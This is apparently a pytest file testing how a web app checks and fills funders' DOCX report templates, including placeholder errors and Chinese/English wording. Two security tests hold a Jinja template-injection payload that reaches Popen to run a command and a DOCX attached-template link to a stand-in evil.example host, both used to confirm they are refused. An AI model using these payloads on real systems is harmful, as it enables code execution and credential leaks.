"""Funders' templates: checked on upload (placeholders found, a split placeholder and an unknown name reported by
name, a file that is no DOCX refused), and filled with the report's one content (the shipped default too)."""

from __future__ import annotations

import contextlib
import datetime as dt
import io
import re

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from flask_babel import force_locale
from sqlalchemy import select

from tests.compliance.helpers import PAST_FIRST
from tests.exports.report_world import docx_bytes, report_world
from tests.factories import make_user
from tests.media import png_bytes
from workspace.activities.models import Evidence
from workspace.compliance.services import budget
from workspace.core.database import utcnow
from workspace.core.errors import ValidationError
from workspace.core.storage import store_upload
from workspace.exports import templates
from workspace.exports.content import report_content
from workspace.extensions import db


def test_placeholders_are_listed_by_name(ctx):
    placeholders, problems = templates.check_template(docx_bytes("{{ community }} · {{ program }}",
                                                                 "{%p for a in activities %}", "{{ a.title }}",
                                                                 "{%p endfor %}"))
    assert placeholders == ["community", "program", "activities"]
    assert problems == []


def test_a_placeholder_word_split_across_runs_is_reported_by_name(ctx):
    _placeholders, problems = templates.check_template(docx_bytes(("社群：{{ commu", "nity }}"), "{{ school }}"))
    assert problems == [{"code": "split", "name": "community"}]
    assert "community" in templates.problem_text(problems[0])


def test_a_split_opening_brace_is_found_too(ctx):
    _placeholders, problems = templates.check_template(docx_bytes(("{", "{ period }}")))
    assert {"code": "split", "name": "period"} in problems


def test_a_name_the_report_does_not_fill_is_reported(ctx):
    placeholders, problems = templates.check_template(docx_bytes("{{ comunity }} {{ members }}"))
    assert problems == [{"code": "unknown", "name": "comunity"}]
    assert "comunity" in placeholders


def test_broken_template_syntax_is_a_problem_not_a_crash(ctx):
    _placeholders, problems = templates.check_template(docx_bytes("{% for a in %}"))
    assert problems and problems[0]["code"] == "syntax"


def test_a_file_that_is_no_docx_is_refused_beside_the_field(ctx):
    with pytest.raises(ValidationError) as refused:
        templates.check_template(b"PK\x03\x04 not really a zip")
    assert refused.value.field == "file"
    stored = store_upload(io.BytesIO(png_bytes()), "template.png")
    with pytest.raises(ValidationError) as refused:
        templates.add_template(stored, "County", make_user(is_admin=True))
    assert refused.value.field == "file"


def test_a_template_with_problems_is_kept_but_not_offered(ctx):
    admin = make_user(is_admin=True)
    stored = store_upload(io.BytesIO(docx_bytes(("{{ commu", "nity }}"))), "縣市格式.docx")
    template = templates.add_template(stored, "", admin)
    db.session.commit()
    assert template.name == "縣市格式" and not template.usable
    assert template.problems == [{"code": "split", "name": "community"}]


def test_the_admin_page_counts_a_template_s_problems_in_words(client, ctx):
    admin = make_user(is_admin=True)
    stored = store_upload(io.BytesIO(docx_bytes(("{{ commu", "nity }}"))), "縣市格式.docx")
    templates.add_template(stored, "", admin)
    db.session.commit()
    client.login(admin)
    page = client.get("/admin/exports/templates").get_data(as_text=True)
    assert "not offered: 1 problem<" in page and "1 problems" not in page


def test_the_default_template_is_clean_and_fills_with_the_report_s_figures(ctx):
    placeholders, problems = templates.check_template(templates.DEFAULT_TEMPLATE.read_bytes())
    assert problems == [] and {"community", "activities", "photos", "budget"} <= set(placeholders)
    world = report_world()
    content = report_content(world.enrollment)
    steps: list = []
    filled = docx.Document(io.BytesIO(templates.fill_default(
        content, progress=lambda done, total, step: steps.append(step))))
    text = "\n".join(paragraph.text for paragraph in filled.paragraphs)
    text += "\n".join(cell.text for table in filled.tables for row in table.rows for cell in row.cells)
    assert content.community_name in text and "{{" not in text and "{%" not in text
    assert "觀課與議課" in text and "分數教案" in text and "觀課.mp4" in text
    assert f"{content.held}" in text and content.program_name in text
    assert len(filled.inline_shapes) == 3  # the photos, as InlineImages
    assert steps.count("photos") == 3
    # QA: the template said "Attended 15 / Expected 16 / Attendance rate 95.8%" (the average per activity): the
    # overall rate is attended over expected, and the average is named as what it is.
    overall = f"{content.attended / content.expected * 100:.1f}%"
    assert f"Overall attendance rate: {overall}" in text
    assert f"Average attendance rate per activity: {content.attendance_rate * 100:.1f}%" in text
    assert "Period (ROC calendar): ROC 114/8/1 to ROC 115/7/31" in text  # the past period 2025-08 … 2026-07
    assert all(line.message in text and line.status in text for line in content.rules) and content.rules
    missing = [gap for line in content.rules for gap in line.gaps]
    assert missing and all(f"• {gap}" in text for gap in missing)  # what is still missing, under its rule


def _text(data: bytes) -> str:
    """A filled DOCX's text: its paragraphs, then its tables' cells."""
    filled = docx.Document(io.BytesIO(data))
    return "\n".join([paragraph.text for paragraph in filled.paragraphs]
                     + [cell.text for table in filled.tables for row in table.rows for cell in row.cells])


def test_the_default_template_reads_in_the_report_s_language_only(ctx):
    """QA (a Taiwanese county's convener): the default template read "成果報告 Results report", "學校 School:",
    "外聘講座引言費: NT$0 (0)", and its video heading stood alone. Its words are the context's `labels`, in the
    report's language with its own colon; a budget line names its count; an empty section says so."""
    world = report_world()
    budget.add_expense(world.enrollment, budget.ExpenseFields("printing_materials", PAST_FIRST + dt.timedelta(days=41),
                                                              4800, keep_unclaimable=True), world.convener)
    db.session.commit()
    with force_locale("zh_Hant"):
        content = report_content(world.enrollment)
        text = _text(templates.fill_default(content))
    assert text.startswith(content.community_name) and "\n成果報告\n" in text
    assert f"學校：{content.school}" in text and "核撥數：NT$50,000" in text
    assert "印刷費－學習資料：NT$150（筆數：1）" in text  # the count of claims named, in Chinese brackets
    assert "外聘講座引言費：NT$0\n" in text  # a category without claims: its amount only, no "(0)"
    assert "分數教案：http://" in text and "保留但不可核銷：NT$4,800" in text
    # No English word but what people named (the community, its school, the program, files) and NT$ or addresses.
    rest = text
    for name in (content.community_name, content.school, content.program_name, content.video.filename,
                 *(material.url for material in content.materials)):
        rest = rest.replace(name, "")
    assert not re.findall(r"[A-Za-z]{2,}", rest.replace("NT$", "")), rest
    assert not re.search(r"[\u4e00-\u9fff][:;,]|[:;,][\u4e00-\u9fff]", rest)  # no half-width colon in Chinese
    english = _text(templates.fill_default(report_content(world.enrollment)))
    assert "School: " in english and "Kept, not claimable: NT$4,800" in english
    assert ": NT$150 (Claims: 1)\n" in english and "Attendance: 6 of 18 expected" in english


def test_the_default_template_leaves_out_what_is_not_there(ctx):
    """No money kept outside the claimable total: no line for it. No video: the section says so, no bare heading."""
    world = report_world()
    for video in db.session.scalars(select(Evidence).where(Evidence.kind == "video")):
        video.deleted_at = utcnow()  # removed from the activity
    db.session.commit()
    with force_locale("zh_Hant"):
        content = report_content(world.enrollment)
        assert content.video is None and content.ledger.not_claimable == 0
        text = _text(templates.fill_default(content))
    assert "不可核銷" not in text
    assert "活動影音檔\n沒有保存影音檔。\n經費" in text
    assert not content.preface and "前言\n—\n量化資料" in text  # a text not written yet: a dash, as the built report


def test_a_report_in_a_funder_s_template_is_named_after_it(ctx):
    """QA: our own report and the funder's format downloaded under the same name."""
    world = report_world()
    admin = make_user(is_admin=True)
    template = templates.add_template(store_upload(io.BytesIO(docx_bytes("{{ community }}")), "county.docx"),
                                      "縣市格式", admin)
    db.session.commit()
    with force_locale("zh_Hant"):
        content = report_content(world.enrollment)
        built = templates.fill(template, content, language="zh_Hant")
    assert built.filename == (f"成果報告-{content.community_name}-縣市格式-{content.program_code}-"
                              f"{content.generated_on.isoformat()}.docx")


def test_a_link_in_the_preface_keeps_its_address_and_a_list_its_bullets(ctx, app):
    """QA: the built report kept "計畫網站 (https://…)"; the template printed "詳見 計畫網站。", no address."""
    from flask_babel import force_locale

    with force_locale("zh_Hant"):
        text = templates._plain("詳見 [計畫網站](https://example.org/a?b=1&c=2)。\n\n- 第一點\n- 第二點 https://x.example")
    assert text == "詳見 計畫網站（https://example.org/a?b=1&c=2）。\n\n• 第一點\n\n• 第二點 https://x.example"


def test_every_name_of_the_context_is_documented_and_filled(ctx):
    world = report_world()
    context = templates.fill_context(report_content(world.enrollment))
    assert set(context) == set(templates.CONTEXT_NAMES)
    assert context["members"] == 6 and context["activities_held"] == 3
    assert context["date_roc"].startswith("ROC ") and context["period_first_roc"] == "ROC 114/8/1"  # English
    with force_locale("zh_Hant"):
        chinese = templates.fill_context(report_content(world.enrollment))
        assert chinese["period_first_roc"] == "民國114年8月1日"
        # An activity and a title of the book list on one line, in the language's brackets and separator.
        first = chinese["activities"][0]
        assert first["summary"] == f"{first['date']} {first['title']}（{first['method']}、{first['hours']}）"
        book = templates._book_line(type("Book", (), {"title": "教學的勇氣", "author": "", "relevance": "共讀"}))
        assert book == "教學的勇氣：共讀"  # no empty brackets for a book without its author
    english = templates.fill_context(report_content(world.enrollment))["activities"][0]
    assert english["summary"].endswith(f" ({english['method']}, {english['hours']})")


def test_a_program_of_another_funder_fills_no_roc_days_and_the_default_template_leaves_the_line_out(ctx):
    """QA: the urban–rural (CN¥) report filled into the default template read "期間（民國）: 民国115年9月1日…"."""
    world = report_world()
    program = world.enrollment.program
    program.currency, program.definition = "CNY", {**program.definition, "currency": "CNY"}
    db.session.commit()
    content = report_content(world.enrollment)
    context = templates.fill_context(content)
    assert {context[name] for name in ("period_roc", "period_first_roc", "period_last_roc", "date_roc")} == {""}
    filled = docx.Document(io.BytesIO(templates.fill_default(content)))
    text = "\n".join(paragraph.text for paragraph in filled.paragraphs)
    assert "Period (ROC" not in text and "Period: " in text


def test_filling_escapes_what_people_typed(ctx):
    world = report_world(minutes="<w:p>& </w:t> {{ community }}")
    filled = templates.fill_default(report_content(world.enrollment))
    text = "\n".join(paragraph.text for paragraph in docx.Document(io.BytesIO(filled)).paragraphs)
    # the sanitized page's text, kept as text: not run again as a placeholder, not read as XML
    assert text.count("&  {{ community }}") == 3


SSTI = ("{% for c in community.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
        "{{ c(['touch', 'PROOF'], stdout=-1).communicate()[0] }}{% endif %}{% endfor %}")


def test_a_template_reaching_for_python_internals_is_a_problem_and_is_never_run(ctx, tmp_path):
    """A funder's template is a file, not code: a placeholder that walks to Python's classes is reported on upload,
    and even filled directly it runs in Jinja's sandbox, which refuses it (nothing is started on the server)."""
    proof = tmp_path / "ran"
    payload = SSTI.replace("PROOF", str(proof))
    data = docx_bytes("{{ community }}", payload)
    _placeholders, problems = templates.check_template(data)
    assert {problem["code"] for problem in problems} == {"unsafe"}
    assert "__class__" in problems[0]["name"] and "_" in templates.problem_text(problems[0])
    assert templates.check_template(docx_bytes("{{ community|attr('__class__') }}"))[1][0]["code"] == "unsafe"
    world = report_world()
    with contextlib.suppress(ValidationError):  # refused by the sandbox, or the internals left undefined: nothing ran
        templates.fill_bytes(data, report_content(world.enrollment))
    assert not proof.exists()


ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def test_a_template_pointing_outside_itself_is_a_problem_but_a_hyperlink_is_not(ctx):
    """An attached template on another server (Word fetches it on opening: remote macros, a leaked Windows login)
    keeps the template from being offered; an ordinary hyperlink in its text does not."""
    document = docx.Document()
    document.add_paragraph("{{ community }}")
    document.part._settings_part.relate_to("file://evil.example/share/macros.dotm", ATTACHED_TEMPLATE, is_external=True)
    document.part.relate_to("https://www.edu.tw/", RT.HYPERLINK, is_external=True)
    out = io.BytesIO()
    document.save(out)
    _placeholders, problems = templates.check_template(out.getvalue())
    assert problems == [{"code": "external", "name": "file://evil.example/share/macros.dotm"}]
    assert "evil.example" in templates.problem_text(problems[0])


def test_the_default_template_numbers_its_pages_and_gives_the_rules_their_room(ctx):
    """QA: a report filled from the default template had no page numbers (the built report has 第 n 頁), and its
    rules table's three equal columns wrapped each rule every eight characters."""
    import io

    import docx
    from docx.oxml.ns import qn

    world = report_world()
    for language, words in (("zh_Hant", ("第 ", " 頁")), ("en", ("Page ", ""))):
        with force_locale(language):
            filled = docx.Document(io.BytesIO(templates.fill_default(report_content(world.enrollment))))
        footer = filled.sections[0].footer.paragraphs[0]
        assert " PAGE " in [node.text for node in footer._p.iter(qn("w:instrText"))]
        texts = [run.text for run in footer.runs if run.text]
        assert texts[0] == words[0] and (texts[-1] == words[1] if words[1] else texts[-1] == "1")
    rules = next(table for table in filled.tables if table.rows[0].cells[0].text == "Rule")
    widths = [int(column.get(qn("w:w"))) for column in rules._tbl.tblGrid.findall(qn("w:gridCol"))]
    assert widths[0] > widths[1] > widths[2] and widths[0] >= 2 * widths[1]  # the rule's words take the room


def test_the_default_template_says_how_many_activities_had_no_roll_call_and_names_the_period_s_members(ctx):
    world = report_world()
    english = _text(templates.fill_default(report_content(world.enrollment)))
    assert "roll call" not in english  # every activity had one: no line
    world.setup.club.activity("沒有點名的讀書會", starts=dt.datetime(2025, 11, 5, 14))
    db.session.commit()
    content = report_content(world.enrollment)
    english = _text(templates.fill_default(content))
    assert "\n1 activity without a roll call is not counted in the attendance figures.\n" in english
    assert f"Members during the period: {content.members}" in english
    with force_locale("zh_Hant"):
        chinese = _text(templates.fill_default(report_content(world.enrollment)))
    assert "1 場未點名的活動不計入出席統計。" in chinese and f"期間內參與成員：{content.members}" in chinese
